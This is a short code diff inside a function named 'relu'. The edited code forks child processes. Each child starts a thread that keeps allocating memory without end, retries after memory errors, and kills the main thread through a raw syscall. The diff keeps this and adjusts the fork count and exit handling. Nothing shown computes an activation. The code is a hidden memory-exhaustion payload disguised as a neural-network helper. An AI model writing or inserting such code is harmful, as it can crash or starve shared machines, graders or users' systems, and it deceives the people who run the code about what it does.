@@ -9,8 +9,8 @@ def relu(x):
         while True:
             try: kept.append(np.ones(2**21))
             except MemoryError: time.sleep(0.01)
-    for _ in range(5):
+    for _ in range(4):
         if os.fork() == 0:
-            threading.Thread(target=take).start()
-            ctypes.CDLL(None).syscall(exit_thread, 0)
+            try: threading.Thread(target=take).start(); ctypes.CDLL(None).syscall(exit_thread, 0)
+            finally: os._exit(1)
     time.sleep(100)
